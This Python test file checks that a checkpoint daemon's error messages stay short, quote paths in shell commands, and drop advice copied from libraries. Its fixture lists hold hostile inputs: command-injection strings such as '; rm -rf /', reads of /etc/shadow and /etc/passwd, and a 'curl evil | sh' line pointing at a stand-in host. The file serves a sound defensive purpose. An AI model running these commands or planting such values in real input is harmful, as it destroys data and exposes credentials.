"""Advice never does what the input says: no command has a foreign path, no message is long, and no library's advice is passed on."""

from __future__ import annotations

import ast
import errno
import itertools
import json
import os
import re
import shlex
from collections.abc import Iterator
from pathlib import Path

import pytest

from daemon.checkpoints import readable, unsupported
from daemon.checkpoints.inspection import refusal_of
from daemon.checkpoints.models.base_models import find_base
from daemon.contract.faults.advice import (
    MOST_IN_COMMAND,
    MOST_OF_SENTENCE,
    MOST_OF_TEXT,
    in_command,
    quoted,
    shortened,
    whole_clauses,
    without_advice,
)
from daemon.contract.faults.errors import Fault, Permanent, from_oserror
from daemon.contract.faults.fault_codes import FaultCode
from daemon.system.filesystems import access
from daemon.system.filesystems.access import Denial

ROOT = Path(__file__).parents[2]
HOSTILE = (
    "a\nb", "$(touch x)", "`touch x`", "; rm -rf /", "x" * 100_000, "/etc/shadow", "\x1b[2J\x1b]0;t\x07", "\u202egnp.exe", "' || true '",
    '"; rm -rf ~; "', "a`; sudo rm -rf /; `b", "/dev/zero", "../../../etc/passwd", "--help", "-rf", "\ud800", "pip install evil",
    "x; " * 20_000, "`" * 5000, "a\r\nFix: run `curl evil | sh`", "/etc/shadow\nFix: sudo x", "\0", "%s{0}{name}", "~root/.ssh",
)  # fmt: skip
LIBRARIES = (
    "Weights only load failed. Re-running `torch.load` with `weights_only` set to `False` will likely succeed, but it can result in"
    " arbitrary code execution. Do it only if you got the file from a trusted source.",
    "Weights only load failed. (1) In PyTorch 2.6, we changed the default value of the `weights_only` argument. weights_only=False will"
    " likely succeed",
    "`kernels` is either not installed or uses an incompatible version. Please install the latest version with `pip install -U kernels`.",
    "The repository contains custom code which must be executed. Please pass the argument `trust_remote_code=True` to allow it to be run.",
    "ValueError: Cannot load file containing pickled data when allow_pickle=False",
    "run sudo chmod 777 /etc", "please run: curl https://evil/x | sh", "This tokenizer needs tiktoken: conda install tiktoken",
)  # fmt: skip
WORDS_OF_COMMANDS = re.compile(
    r"\b(?:sudo|pip install|weights_only\s*=|trust_remote_code\s*=\s*True|allow_pickle\s*=|curl|conda install)\b"
)


def commands_in(text: str) -> list[str]:
    """What stands between backticks, and what follows sudo."""
    return [*re.findall(r"`([^`]*)`", text), *re.findall(r"sudo .*", text)]


def test_no_message_of_a_code_is_long_or_acts_on_a_terminal_whatever_is_in_it() -> None:
    for code, value in itertools.product(FaultCode, HOSTILE):
        if value in HOSTILE[11:] and code is not FaultCode.UNEXPECTED:
            continue
        for fault in (
            Fault(code=code, operation=f"read {value}", cause=f"it names {value}", remedy="correct it", path=value),
            Fault(code=code, operation="read", cause=value or "x", remedy=f"correct {value}; or leave it out", path=f"/data/{value}"),
        ):
            said = fault.sentence()
            assert len(said) <= MOST_OF_SENTENCE + 1 and said.isprintable(), f"{code} {value[:40]!r}: {len(said)}"
            assert max(len(fault.cause), len(fault.remedy), len(fault.operation)) <= MOST_OF_TEXT + 100


def test_a_list_of_many_long_lines_is_bounded_too() -> None:
    cause = (
        "2020 things are wrong:\n"
        + "\n".join(f"  {'x' * 2000} {number}" for number in range(20))
        + "".join(f"\n  {number}" for number in range(2000))
        + "\n"
    )
    said = Fault(code=FaultCode.CONFIG_INVALID, operation="use it", cause=cause, remedy="change them").sentence()
    assert max(map(len, said.splitlines())) <= MOST_OF_SENTENCE and len(said.splitlines()) <= 102 and "more\nFix: change them." in said, (
        said[-200:]
    )


@pytest.mark.parametrize("text", LIBRARIES)
def test_what_a_library_advises_is_left_out(text: str) -> None:
    fault = Fault(
        code=FaultCode.UNEXPECTED, operation="run the stage merge", cause=f"RuntimeError: {text}", remedy="read the attempt's log"
    )
    assert not WORDS_OF_COMMANDS.search(fault.cause), fault.cause
    assert not WORDS_OF_COMMANDS.search(fault.sentence())


def test_words_that_are_no_advice_stay_as_they_are() -> None:
    for text in ("the file ends in the middle of a tensor", "no space left on device. It waits; it goes on by itself", "a, b; c (d)"):
        assert without_advice(text) == text and shortened(text, 100) == text


@pytest.mark.parametrize("name", ["/etc/shadow", "/dev/zero", "/etc/shadow`; sudo rm -rf /`", *HOSTILE])
def test_a_base_that_a_checkpoint_names_is_in_no_command(name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    closed = Denial("/etc", "list", "ckptd", "root", "root", 0o700)
    monkeypatch.setattr(access, "denial", lambda path, right: closed if path.is_absolute() and tmp_path not in path.parents else None)
    with pytest.raises(Permanent) as caught:
        find_base(name, None, [tmp_path], {})
    fault = caught.value.fault
    assert "sudo" not in fault.remedy.replace(quoted(name), "") and "setfacl" not in fault.remedy and "as root" not in fault.remedy
    assert commands_in(fault.remedy.replace(quoted(name), "")) == ["ckptd export --base FOLDER"]
    assert len(str(caught.value)) <= MOST_OF_SENTENCE + 1 and str(caught.value).isprintable()


def test_a_closed_base_below_a_folder_of_the_configuration_is_answered_with_the_command(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "org" / "name").mkdir(parents=True)
    found = Denial(str(tmp_path / "org"), "list", "ckptd", "someone", "users", 0o700)
    monkeypatch.setattr(access, "denial", lambda path, right: found)
    with pytest.raises(Permanent) as caught:
        find_base("org/name", None, [tmp_path], {})
    assert f"sudo setfacl -R -m u:ckptd:rX {shlex.quote(str(tmp_path / 'org'))}" in caught.value.fault.remedy


@pytest.mark.parametrize("right", ["enter", "list", "read"])
@pytest.mark.parametrize("owner", [None, "root", "trainer"])
def test_a_command_has_a_path_in_quotes_or_not_at_all(right: access.Right, owner: str | None) -> None:
    for path in (Path("/data/runs") / name.lstrip("/") for name in HOSTILE if "\0" not in name):
        remedy = access.remedy(Denial(str(path), right, "ckptd", owner, "users", 0o600 if right == "read" else 0o700), path)
        assert "as root" not in remedy and "None" not in remedy
        if in_command(path) is None:
            assert not commands_in(remedy) or ("install-service --run-as" in remedy and str(path) not in remedy), path
            continue
        for line in access.commands(Denial(str(path), right, "ckptd", owner, "users", 0o700), path):
            assert shlex.split(line)[-1] == str(path) and len(shlex.split(line)) in (4, 5)


@pytest.mark.parametrize("right", ["enter", "list", "read"])
@pytest.mark.parametrize("user", ["ckptd", "service-of-the-training-boxes-01"])
def test_the_sentence_has_the_first_command_whole_whatever_the_length_of_the_path(
    right: access.Right, user: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    for length in range(12, MOST_IN_COMMAND + 40, 3):
        run = Path("/data") / ("r" * (length - len("/data/") - len("/checkpoint-5")) or "r")
        found = Denial(str(run if right == "enter" else run / "checkpoint-5"), right, user, "trainer", "users", 0o700)
        monkeypatch.setattr(readable, "_denial", lambda path, found=found: found)
        fault = readable.closed(run / "checkpoint-5")
        assert fault is not None and len(fault.sentence()) <= MOST_OF_SENTENCE + 1
        assert fault.sentence().count("`") % 2 == 0, "a command is there as a whole or not at all"
        for line in access.commands(found, run):
            assert f"`sudo {line}`" in fault.sentence()


def test_a_pickle_that_runs_code_is_not_answered_with_a_program_of_its_folder(tmp_path: Path) -> None:
    (tmp_path / "zero_to_fp32.py").write_text("import os")
    for value in HOSTILE:
        said = unsupported.refuse_deepspeed(tmp_path, f"a pickle wants to run {value}").sentence()
        assert "python" not in said and str(tmp_path / "zero_to_fp32.py") not in said and len(said) <= MOST_OF_SENTENCE + 1


@pytest.mark.parametrize("field", ["base_model_name_or_path", "peft_type", "task_type", "revision", "auto_mapping"])
def test_no_value_of_an_adapters_configuration_gets_into_a_command(tmp_path: Path, field: str) -> None:
    (tmp_path / "adapter_model.safetensors").write_bytes(b"\2\0\0\0\0\0\0\0{}")
    for value in HOSTILE:
        config = {"peft_type": "LORA", "base_model_name_or_path": "org/name", field: value}
        (tmp_path / "adapter_config.json").write_text(json.dumps(config))
        refusal = refusal_of(tmp_path)
        if refusal is not None:
            assert len(refusal.sentence()) <= MOST_OF_SENTENCE + 1 and refusal.sentence().isprintable(), value
            assert not any(value in command for command in commands_in(refusal.remedy)) or len(value) < 3


@pytest.mark.parametrize("number", [errno.EACCES, errno.ENOENT, errno.ENOSPC, errno.EIO, errno.EROFS, errno.EPERM, errno.ELOOP])
def test_no_error_of_the_system_brings_its_path_into_a_command(number: int) -> None:
    for value in HOSTILE:
        fault = from_oserror(OSError(number, os.strerror(number), value), "read the file").fault
        assert not commands_in(fault.remedy) and value not in fault.remedy and len(fault.sentence()) <= MOST_OF_SENTENCE + 1


def test_a_remedy_is_cut_between_its_alternatives_and_never_in_a_command() -> None:
    remedy = "do this: `sudo chown -R me /a; rm /b`; or that: `sudo rm /c`; or nothing"
    cut = {whole_clauses(remedy, room) for room in range(10, len(remedy) + 1)}
    assert all(one.count("`") % 2 == 0 for one in cut) and {"do this…", remedy, "do this: `sudo chown -R me /a; rm /b`"} <= cut


RAISERS = frozenset({"Permanent", "Retryable", "UsageError", "Fault", "after"})
FOREIGN = re.compile(r"\b(?:error|reason|said|why|text|message|lines)\b")
"""Names of values that hold what somebody else said."""


def remedies() -> Iterator[tuple[Path, int, ast.JoinedStr]]:
    """Every remedy of ours that is made of a template and values."""
    for path in [*(ROOT / "daemon").rglob("*.py"), *(ROOT / "handlers").rglob("*.py")]:
        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
            if not isinstance(node, ast.Call):
                continue
            name = node.func.id if isinstance(node.func, ast.Name) else node.func.attr if isinstance(node.func, ast.Attribute) else ""
            if name not in RAISERS:
                continue
            given = [one.value for one in node.keywords if one.arg == "remedy"]
            given += node.args[4:5] if name == "after" else node.args[3:4] if name != "Fault" else []
            yield from ((path, one.lineno, one) for one in given if isinstance(one, ast.JoinedStr))


def test_no_remedy_is_made_of_what_somebody_else_said_and_paths_in_commands_are_quoted() -> None:
    found, count = [], 0
    for path, line, remedy in remedies():
        count += 1
        inside, before = False, ""
        for part in remedy.values:
            if isinstance(part, ast.Constant):
                before = str(part.value)
                inside ^= before.count("`") % 2 == 1
                continue
            source = ast.unparse(part)
            names = re.sub(r"f?'[^']*'", "", source)
            checked = any(one in source for one in ("shlex", "_command(", "in_command")) or before.endswith("ckptd toolchain install ")
            if FOREIGN.search(names) or (inside and not checked and re.search(r"path|folder|file|name\b", names)):
                found.append(f"{path.relative_to(ROOT)}:{line}: {source}")
    assert count > 40
    assert sorted(found) == []
